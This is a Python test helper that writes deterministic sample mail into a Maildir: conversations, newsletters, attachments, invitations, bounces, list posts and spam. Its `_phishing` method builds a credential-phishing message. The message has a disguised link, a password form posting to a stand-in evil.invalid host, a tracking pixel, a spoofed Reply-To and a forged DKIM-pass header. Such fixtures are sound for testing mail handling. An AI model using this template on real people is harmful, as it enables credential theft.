#!/usr/bin/python3
"""Writes sample mail: the same for the same seed, thousands of messages a second.

    sample.py MAILDIR --owner ada --count 4000
    sample.py MAILDIR --count 100000 --mailbox INBOX     for benches

Messages are built as text rather than with Python's email package, which takes a millisecond for
each; test_mailserver.py parses them with that package to see that they are right.
"""

import argparse
import base64
import calendar
import functools
import quopri
import random
import sys
import time
from dataclasses import dataclass
from pathlib import Path

if __name__ == "__main__":
    sys.path[0] = str(Path(__file__).resolve().parents[2])

from tests.mailserver import maildir
from tests.mailserver import sample_parts as parts
from tests.mailserver import sample_texts as texts

DAY = 86400
SPAN = 9 * 365 * DAY
DEFAULT_UNTIL = calendar.timegm((2026, 6, 1, 12, 0, 0))
FOREIGN_MAILBOX = "Письма с маяка & Überfahrten"
MAILBOXES = ["INBOX", "Drafts", "Sent", "Trash", "Junk", "Archive", "Projects",
             "Projects/Lighthouse", "Projects/Lighthouse/Optics", "Projects/Minutes",
             "Projects/Bread", "Projects/Money", "Lists", "Lists/Keepers", FOREIGN_MAILBOX]
OWNERS = {"ada": texts.ADA, "ben": texts.BEN, "pia": texts.PIA}


@dataclass(slots=True)
class Sample:
    mailbox: str
    arrived: int  # Unix time
    flags: tuple
    content: bytes  # CRLF lines


# --- header fields -----------------------------------------------------------------------------------

@functools.lru_cache(4096)
def words(text, charset="utf-8"):
    """Text as a header field's value: encoded words (RFC 2047) of whole characters where needed."""
    if text.isascii():
        return text
    room = 75 - len(f"=?{charset}?B??=")
    pieces, piece = [], ""
    for letter in text:
        if len(base64.b64encode((piece + letter).encode(charset))) > room:
            pieces.append(piece)
            piece = ""
        piece += letter
    pieces.append(piece)
    return "\r\n ".join(f"=?{charset}?B?{base64.b64encode(piece.encode(charset)).decode()}?="
                        for piece in pieces)


@functools.lru_cache(4096)
def mailbox_of(person, charset="utf-8"):
    name, address = person
    if not name.isascii():
        return f"{words(name, charset)} <{address}>"
    if any(letter in name for letter in '".,()<>@:;'):
        name = '"' + name.replace('"', '\\"') + '"'
    return f"{name} <{address}>"


def date_of(moment, zone_hours=0):
    shown = time.gmtime(moment + zone_hours * 3600)
    return (time.strftime("%a, %d %b %Y %H:%M:%S ", shown) +
            f"{'-' if zone_hours < 0 else '+'}{abs(zone_hours):02d}00")


def wrapped(text, width=72):
    lines = []
    for paragraph in text.split("\n"):
        line = ""
        for word in paragraph.split(" "):
            if line and len(line) + len(word) >= width:
                lines.append(line)
                line = word
            else:
                line = f"{line} {word}" if line else word
        lines.append(line)
    return lines


def quoted(lines):
    return [">" + line if line.startswith(">") else "> " + line if line else ">" for line in lines]


def markup_escaped(text):
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


# --- MIME ----------------------------------------------------------------------------------------------

def text_part(body, subtype="plain", charset="utf-8", parameters=""):
    """Header fields and content of one text part, 7bit or 8bit."""
    encoding = "7bit" if body.isascii() else "8bit"
    return (f"Content-Type: text/{subtype}; charset={charset}{parameters}\r\n"
            f"Content-Transfer-Encoding: {encoding}\r\n\r\n{body}")


def file_part(content, mime_type, name, *, content_id=None):
    place = f"Content-ID: <{content_id}>\r\nContent-Disposition: inline" if content_id else \
        "Content-Disposition: attachment"
    if name.isascii():
        disposition = f'{place}; filename="{name}"'
    else:
        octets = "".join(chr(byte) if chr(byte).isascii() and chr(byte).isalnum() or chr(byte) in "._-"
                         else f"%{byte:02X}" for byte in name.encode())
        disposition = f"{place};\r\n filename*=utf-8''{octets}"
    return (f"Content-Type: {mime_type}\r\nContent-Transfer-Encoding: base64\r\n{disposition}\r\n\r\n"
            f"{parts.base64_lines(content)}")


def multipart(subtype, boundary, *contents, parameters=""):
    inside = "".join(f"--{boundary}\r\n{content}\r\n" for content in contents)
    return (f'Content-Type: multipart/{subtype}; boundary="{boundary}"{parameters}\r\n\r\n'
            f"{inside}--{boundary}--\r\n")


class Generator:
    """The mail of one person. Each `_kind` method returns the list of Samples of one event."""

    def __init__(self, owner, seed=1, until=DEFAULT_UNTIL):
        self.owner = owner
        self.random = random.Random(f"{seed}:{owner[1]}")
        self.until = until
        self.serial = 0

    def messages(self, count):
        kinds, weights = zip(*_KINDS)
        made = 0
        for kind in kinds:  # each at least once, and lately, so that the first page shows it
            for sample in kind(self, self.until - self.random.randrange(20 * DAY))[:count - made]:
                made += 1
                yield sample
        while made < count:
            # Denser towards now, as mailboxes are.
            start = self.until - int(SPAN * self.random.random() ** 2) - 600
            kind, = self.random.choices(kinds, weights)
            for sample in kind(self, start)[:count - made]:
                made += 1
                yield sample

    # --- what all share ---------------------------------------------------------------------------

    def _id(self, person):
        self.serial += 1
        return f"<{self.serial:x}.{self.random.getrandbits(48):012x}@{person[1].split('@')[1]}>"

    def _boundary(self):
        return f"=_{self.random.getrandbits(64):016x}"

    def _slots(self):
        return {"thing": self.random.choice(texts.THINGS), "when": self.random.choice(texts.WHEN),
                "n": self.random.randrange(3, 60)}

    def _other(self):
        while (person := self.random.choice(texts.PEOPLE)) == self.owner:
            pass
        return person

    def _flags(self, moment):
        age = self.until - moment
        flags = []
        if age > 30 * DAY or self.random.random() < 0.6:
            flags.append("\\Seen")
            if self.random.random() < 0.04:
                flags.append("\\Flagged")
        return tuple(flags)

    def _sample(self, mailbox, moment, sender, subject, rest, *, to=None, flags=None, charset="utf-8",
                message_id=None, extra="", return_path=None):
        """`rest` begins with the content's own header fields."""
        moment = min(moment, self.until)
        arrived = moment + self.random.randrange(1, 40)
        to = to or mailbox_of(self.owner)
        hop = sender[1].split("@")[1]
        head = (f"Return-Path: <{sender[1] if return_path is None else return_path}>\r\n"
                f"Received: from {hop} ({hop} [192.0.2.{1 + len(hop)}])\r\n\tby mail.example.org with "
                f"ESMTPS;\r\n\t{date_of(arrived)}\r\n" if sender != self.owner else "")
        text = (f"{head}Date: {date_of(moment, len(hop) % 4)}\r\nFrom: {mailbox_of(sender, charset)}\r\n"
                f"To: {to}\r\nSubject: {words(subject, charset)}\r\n"
                f"Message-ID: {message_id or self._id(sender)}\r\n{extra}MIME-Version: 1.0\r\n{rest}")
        content = text if isinstance(text, bytes) else text.encode()
        return Sample(mailbox, arrived, self._flags(moment) if flags is None else flags, content)

    # --- the kinds ----------------------------------------------------------------------------------

    def _conversation(self, start):
        subject, project, turns = self.random.choice(texts.CONVERSATIONS)
        slots = self._slots()
        subject = subject.format(**slots)
        cast = [self._other(), self.owner]
        if self.random.random() < 0.4:
            cast.insert(1, self._other())
        if self.random.random() < 0.3:
            cast.reverse()
        samples, references, previous, moment = [], [], None, start
        for turn, text in enumerate(turns):
            if moment > self.until:
                break
            sender = cast[turn % len(cast)]
            others = [person for person in dict.fromkeys(cast) if person != sender]
            lines = wrapped(text.format(**slots))
            signature = ["", "-- ", sender[0].split()[0].strip('"'), "Friends of the Lighthouse"]
            if previous:
                who, when, was = previous
                lead = f"On {time.strftime('%d %b %Y at %H:%M', time.gmtime(when))}, {who[0]} wrote:"
                # Some answer above, some below, as in life.
                lines = lines + ["", lead] + quoted(was) if turn % 3 == 1 else \
                    [lead] + quoted(was) + [""] + lines
            body = "\r\n".join(lines + signature) + "\r\n"
            message_id = self._id(sender)
            extra = ""
            if references:
                extra = (f"In-Reply-To: {references[-1]}\r\n"
                         f"References: {chr(13) + chr(10) + ' '}"
                         f"{(chr(13) + chr(10) + ' ').join(references)}\r\n")
            if sender == self.owner:
                mailbox, flags = "Sent", ("\\Seen",)
                if samples and samples[-1].mailbox != "Sent":
                    samples[-1].flags += ("\\Answered",) if "\\Answered" not in samples[-1].flags else ()
            else:
                is_old = self.until - moment > 500 * DAY
                mailbox = project if project and (is_old or self.random.random() < 0.4) else \
                    "Archive" if is_old and self.random.random() < 0.3 else "INBOX"
                flags = None
            samples.append(self._sample(
                mailbox, moment, sender, ("Re: " if turn else "") + subject, text_part(body),
                to=",\r\n ".join(mailbox_of(person) for person in others), flags=flags,
                message_id=message_id, extra=extra))
            references.append(message_id)
            previous = (sender, moment, lines)
            moment += self.random.randrange(10 * 60, 2 * DAY)
        return samples

    def _newsletter(self, start):
        name, address, subject, items = self.random.choice(texts.NEWSLETTERS)
        host = address.split("@")[1]
        items = self.random.sample(items, len(items))
        issue = self.random.randrange(10, 400)
        plain = f"{subject} (issue {issue})\r\n\r\n" + "".join(f"* {item}\r\n" for item in items)
        rows = "".join(
            f'<tr><td width="96" style="padding:12px"><img src="https://img.{host}/{issue}/{number}.jpg" '
            f'width="96" height="72" alt=""></td><td style="padding:12px;font:16px/24px Georgia,serif;'
            f'color:#333333"><a href="https://{host}/read/{issue}/{number}?utm_source=mail" '
            f'style="color:#0b5394;text-decoration:none">{markup_escaped(item)}</a></td></tr>\r\n'
            for number, item in enumerate(items, 1))
        html = (
            f"<!DOCTYPE html>\r\n<html><head><title>{markup_escaped(subject)}</title>\r\n"
            "<style>body{margin:0;background:#f2efe8} .h{letter-spacing:2px} "
            "@media (max-width:600px){.w{width:100%!important}}</style></head>\r\n"
            '<body bgcolor="#f2efe8"><div style="display:none">The short of it, before you open it</div>'
            '\r\n<table class="w" width="600" align="center" cellpadding="0" cellspacing="0" '
            'bgcolor="#ffffff">\r\n<tr><td colspan="2" style="padding:24px;background:#23395d">'
            f'<h1 class="h" style="margin:0;color:#ffffff">{markup_escaped(name)}</h1></td></tr>\r\n'
            f'<tr><td colspan="2" style="padding:12px"><h2>{markup_escaped(subject)}</h2></td></tr>\r\n{rows}'
            f'<tr><td colspan="2" style="padding:24px;font-size:12px;color:#777">Issue {issue}. '
            f'<a href="https://{host}/unsubscribe?u=41f9">Unsubscribe</a></td></tr></table>\r\n'
            f'<img src="https://open.{host}/o.gif?m={self.random.getrandbits(32):08x}" width="1" '
            'height="1" alt=""></body></html>\r\n')
        extra = (f"List-Unsubscribe: <https://{host}/unsubscribe?u=41f9>, <mailto:stop@{host}>\r\n"
                 f"List-Unsubscribe-Post: List-Unsubscribe=One-Click\r\nList-Id: <news.{host}>\r\n"
                 "Precedence: bulk\r\n")
        return [self._sample("INBOX", start, (name, address), subject, multipart(
            "alternative", self._boundary(), text_part(plain), text_part(html, "html")), extra=extra)]

    def _machine(self, start):
        name, address, subject, body = self.random.choice(texts.MACHINES)
        slots = self._slots()
        return [self._sample("INBOX", start, (name, address), subject.format(**slots),
                             text_part(body.format(**slots).replace("\n", "\r\n") + "\r\n"),
                             extra="Auto-Submitted: auto-generated\r\n")]

    def _attachment(self, start):
        slots = self._slots()
        files = self.random.choice([
            [(parts.pdf("Survey of the " + slots["thing"], "Found sound.\nFound damp.\nFound a glove."),
              "application/pdf", "survey.pdf")],
            [(parts.png(), "image/png", "view from the gallery.png"),
             (parts.png(hue=40), "image/png", "the same, later.png")],
            [(parts.archive(("log/1907.txt", b"Oil, do not forget.\n" * 200), ("README", b"Old.\n")),
              "application/zip", "log-books.zip")],
            [(parts.table(200), "text/csv", "tides.csv"),
             (b"Stairs: 108\r\nStairs, down: 109\r\n", "text/plain", "stairs.txt")],
            [(parts.png(200, 150, hue=7, noise=60), "image/png", "Ausblick über die Förde.png")],
            [(parts.pdf("Invoice", "Bolts, brass: 12\nTin, biscuit: 1"), "application/pdf",
              "Rechnung Nr. 17 – Messingschrauben.pdf"),
             (parts.archive(("photo.png", parts.png())), "application/zip", "photos.zip")],
        ])
        body = (f"Here is what I have about the {slots['thing']}: {len(files)} "
                f"file{'s' if len(files) > 1 else ''}. No hurry before {slots['when']}.\r\n")
        return [self._sample("INBOX", start, self._other(), f"Papers: {slots['thing']}", multipart(
            "mixed", self._boundary(), text_part(body), *(file_part(*file) for file in files)))]

    def _inline_picture(self, start):
        sender = self._other()
        content_id = f"tower.{self.random.getrandbits(32):08x}@{sender[1].split('@')[1]}"
        html = ('<html><body><p>This is how it looked <b>this morning</b>:</p>\r\n'
                f'<p><img src="cid:{content_id}" alt="The tower at dusk"></p>\r\n'
                "<p>I kept the original, in case it stops looking like this.</p></body></html>\r\n")
        related = multipart("related", self._boundary(), text_part(html, "html"),
                            file_part(parts.png(160, 100), "image/png", "tower.png",
                                      content_id=content_id))
        plain = "This is how it looked this morning: [picture]\r\n"
        return [self._sample("INBOX", start, sender, "This morning, from the pier", multipart(
            "alternative", self._boundary(), text_part(plain), related))]

    def _foreign(self, start):
        language, charset, encoding, sender, subject, text = self.random.choice(texts.FOREIGN)
        sample = self._sample(
            "INBOX" if self.random.random() < 0.6 else FOREIGN_MAILBOX, start, sender, subject,
            f"Content-Type: text/plain; charset={charset}\r\nContent-Transfer-Encoding: {encoding}\r\n"
            f"Content-Language: {language}\r\n\r\n", charset=charset)
        sample.content += _encoded(text, charset, encoding)
        return [sample]

    def _flowed(self, start):
        text = "\n\n".join(self.random.sample(texts.FLOWED, 2))
        lines = []
        for paragraph in text.split("\n"):
            soft = wrapped(paragraph, 70)
            lines += [line + " " for line in soft[:-1]] + soft[-1:]
        body = "\r\n".join(["> What do you think about up there all day? ", "> Be honest.", ""] +
                           lines) + "\r\n"
        return [self._sample("INBOX", start, self._other(), "Thoughts from the stairs",
                             text_part(body, parameters="; format=flowed; delsp=no"))]

    def _long_quote(self, start):
        lines = wrapped(self.random.choice(texts.FLOWED))
        for level in range(self.random.randrange(6, 14)):
            lines = [f"{self._other()[0]} wrote:"] + quoted(lines) + ["", self.random.choice(
                ["Agreed.", "I had not seen it like that.", "See below.", "Still true.", "And the gull?"])]
        return [self._sample("INBOX", start, self._other(), "Re: Re: AW: Re: The notice board",
                             text_part("\r\n".join(lines) + "\r\n"))]

    def _invitation(self, start):
        sender, slots = self._other(), self._slots()
        begin = start + 3 * DAY
        stamp = "%Y%m%dT%H%M%SZ"
        event = (
            "BEGIN:VCALENDAR\r\nPRODID:-//Friends of the Lighthouse//Diary//EN\r\nVERSION:2.0\r\n"
            "METHOD:REQUEST\r\nBEGIN:VEVENT\r\n"
            f"UID:{self.random.getrandbits(64):016x}@lighthouse.example\r\n"
            f"DTSTAMP:{time.strftime(stamp, time.gmtime(start))}\r\n"
            f"DTSTART:{time.strftime(stamp, time.gmtime(begin))}\r\n"
            f"DTEND:{time.strftime(stamp, time.gmtime(begin + 5400))}\r\n"
            f"SUMMARY:Turning the lens ({slots['thing']})\r\nLOCATION:Lantern room\\, mind the step\r\n"
            f"ORGANIZER:mailto:{sender[1]}\r\nATTENDEE;RSVP=TRUE;PARTSTAT=NEEDS-ACTION:mailto:"
            f"{self.owner[1]}\r\nSEQUENCE:0\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n")
        plain = "You are invited to watch a lens turn once. It takes ninety minutes, with tea.\r\n"
        return [self._sample("INBOX", start, sender, "Invitation: turning the lens", multipart(
            "alternative", self._boundary(), text_part(plain),
            text_part(event, "calendar", parameters="; method=REQUEST")))]

    def _delivery_report(self, start):
        lost = ("Nobody", "keeper@lost-at-sea.example")
        message_id = self._id(self.owner)
        original = (f"From: {mailbox_of(self.owner)}\r\nTo: {lost[1]}\r\nSubject: Are you still there?\r\n"
                    f"Message-ID: {message_id}\r\nDate: {date_of(start - 60)}\r\n")
        plain = (f"Your message could not be delivered to\r\n\r\n    <{lost[1]}>\r\n\r\nThe host says: 550 "
                 "5.1.1 no keeper by that name.\r\n")
        status = ("Content-Type: message/delivery-status\r\n\r\n"
                  "Reporting-MTA: dns; mail.example.org\r\n"
                  f"Arrival-Date: {date_of(start - 50)}\r\n\r\nFinal-Recipient: rfc822; {lost[1]}\r\n"
                  "Action: failed\r\nStatus: 5.1.1\r\nDiagnostic-Code: smtp; 550 5.1.1 no keeper by that "
                  "name\r\n")
        report = multipart("report", self._boundary(), text_part(plain), status,
                           f"Content-Type: text/rfc822-headers\r\n\r\n{original}",
                           parameters="; report-type=delivery-status")
        return [self._sample("INBOX", start, ("Mail Delivery System", "MAILER-DAEMON@mail.example.org"),
                             "Undelivered Mail Returned to Sender", report, return_path="",
                             extra="Auto-Submitted: auto-replied\r\n")]

    def _list_post(self, start):
        subject, text = self.random.choice(texts.LIST_POSTS)
        sender = self._other()
        footer = ["", "_" * 47, "keepers mailing list", "https://lists.keepers.example/keepers"]
        extra = ("List-Id: Keepers of old lights <keepers.lists.keepers.example>\r\n"
                 "List-Post: <mailto:keepers@lists.keepers.example>\r\n"
                 "List-Unsubscribe: <mailto:keepers-leave@lists.keepers.example>\r\n"
                 "Sender: keepers-bounces@lists.keepers.example\r\n")
        return [self._sample(
            self.random.choice(["Lists/Keepers", "Lists/Keepers", "INBOX"]), start, sender,
            f"[keepers] {subject}", text_part("\r\n".join(wrapped(text) + footer) + "\r\n"),
            to="keepers@lists.keepers.example", extra=extra,
            return_path="keepers-bounces@lists.keepers.example")]

    def _phishing(self, start):
        html = ("<html><body><p>Dear customer <b>ada</b>,</p><p>Your harbour account was <font color=red>"
                "LIMITED</font>. Please confirm within 24 hours:</p>\r\n"
                '<p><a href="http://harbour.example.evil.invalid/login?id=9">https://www.harbour.example/'
                'secure</a></p>\r\n<form action="http://evil.invalid/take" method="post"><input '
                'type="password" name="p" placeholder="Your password"><input type="submit"></form>\r\n'
                '<img src="http://evil.invalid/seen.gif" width=1 height=1></body></html>\r\n')
        return [self._sample(
            self.random.choice(["Junk", "Junk", "INBOX"]), start,
            ("service@harbour.example", "q7781@evil.invalid"), "Action required: harbour account",
            text_part(html, "html"), extra="Reply-To: \"Harbour Security\" <collect@evil.invalid>\r\n"
            "Authentication-Results: harbour.example; dkim=pass\r\n")]

    def _spam(self, start):
        name, address, subject, body = self.random.choice(texts.SPAM)
        return [self._sample("Junk", start, (name, address), subject, text_part(body))]

    def _draft(self, start):
        slots = self._slots()
        return [self._sample("Drafts", start, self.owner, f"The {slots['thing']}, a proposal",
                             text_part("Dear all,\r\n\r\nI have been meaning to say that\r\n"),
                             to=mailbox_of(self._other()), flags=("\\Draft", "\\Seen"))]

    def _thrown_away(self, start):
        sample, = self._machine(start)
        sample.mailbox = "Trash"
        sample.flags = ("\\Seen",)
        return [sample]


_KINDS = [
    (Generator._conversation, 30), (Generator._newsletter, 14), (Generator._machine, 22),
    (Generator._attachment, 5), (Generator._inline_picture, 1.5), (Generator._foreign, 9),
    (Generator._flowed, 3), (Generator._long_quote, 1), (Generator._invitation, 2),
    (Generator._delivery_report, 0.5), (Generator._list_post, 14), (Generator._phishing, 0.7),
    (Generator._spam, 3), (Generator._draft, 0.4), (Generator._thrown_away, 3)]


@functools.cache
def _encoded(text, charset, encoding):
    content = (text.replace("\n", "\r\n") + "\r\n").encode(charset)
    if encoding == "base64":
        return parts.base64_lines(content).encode()
    if encoding == "quoted-printable":
        return quopri.encodestring(content.replace(b"\r\n", b"\n")).replace(b"\n", b"\r\n")
    return content


def fill(root, owner, count, *, seed=1, until=DEFAULT_UNTIL, mailbox=None):
    """Writes `count` messages into the Maildir `root`; all into `mailbox` if one is given, and one
    mailbox only for somebody with POP3. Returns how many each mailbox got."""
    writers = {}
    for name in [mailbox] if mailbox else MAILBOXES:
        writers[name] = maildir.Writer(maildir.folder_of(root, name))
    for sample in Generator(owner, seed, until).messages(count):
        writers[mailbox or sample.mailbox].add(sample.content, sample.flags, sample.arrived)
    if not mailbox:
        maildir.subscribe(root, MAILBOXES[1:])
    return {name: writer.count for name, writer in writers.items()}


def main():
    parser = argparse.ArgumentParser(description="Writes sample mail into a Maildir.")
    parser.add_argument("maildir")
    parser.add_argument("--owner", choices=OWNERS, default="ada")
    parser.add_argument("--count", type=int, default=4000)
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("--mailbox", help="all into this one")
    arguments = parser.parse_args()
    begin = time.monotonic()
    counts = fill(arguments.maildir, OWNERS[arguments.owner], arguments.count, seed=arguments.seed,
                  mailbox=arguments.mailbox)
    for name, count in counts.items():
        print(f"{count:7} {name}")
    print(f"{sum(counts.values()):7} in {time.monotonic() - begin:.1f} s")


if __name__ == "__main__":
    main()
